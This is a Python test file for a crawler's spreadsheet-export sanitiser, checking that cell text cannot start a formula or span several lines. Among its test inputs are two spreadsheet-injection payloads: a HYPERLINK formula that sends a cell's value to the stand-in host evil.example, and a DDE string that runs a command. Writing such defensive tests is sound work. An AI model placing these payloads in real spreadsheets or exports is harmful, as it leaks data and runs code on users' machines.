from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawlproject.exports.cells import cell, text_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        " =1",
        "   \t@x",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\x00=1",
        "\x07-x",
        "＝1",
        "--5",
        "-5-",
        "-1e5555",
        "+49 30 1234",
    ],
)
def test_formulas_are_defused(text: str) -> None:
    assert text_cell(text).startswith("'")


def test_leading_tab_and_carriage_return_are_defused() -> None:
    assert text_cell("\tx") == "' x"
    assert text_cell("\rx") == "' x"


@pytest.mark.parametrize("text", ["-5", "+3.25", "-1e5", "42", "a=b", "x - y", "https://a/?b=-1"])
def test_numbers_and_ordinary_text_stay(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("two\nlines", "two lines"),
        ("two\r\nlines", "two lines"),
        ("a\tb\vc\u2028d", "a b c d"),
        ("nul\x00bell\x07\x9fend", "nulbellend"),
        ("lone \ud800", "lone \ufffd"),
        ("é 😀 \u00a0", "é 😀 \u00a0"),
    ],
)
def test_a_cell_is_one_line_of_writable_text(text: str, expected: str) -> None:
    assert text_cell(text) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-3, -3),
        (-0.5, -0.5),
        ("x", "x"),
        (["a", 1, True, None], "a 1 true "),
        (["=1", "b"], "'=1 b"),
        ([], ""),
        (["a", ["b"]], None),
        ({"a": 1}, None),
    ],
)
def test_values_as_cells(value: object, expected: object) -> None:
    assert cell(value) == expected


@given(st.text(st.characters(codec=None, categories=None, exclude_categories=())))
def test_no_text_makes_a_formula_or_a_second_line(text: str) -> None:
    result = text_cell(text)
    result.encode()
    assert len(result.splitlines()) <= 1
    start = result.lstrip()[:1]
    assert start not in ("=", "@")
    if start in ("+", "-"):
        float(result)
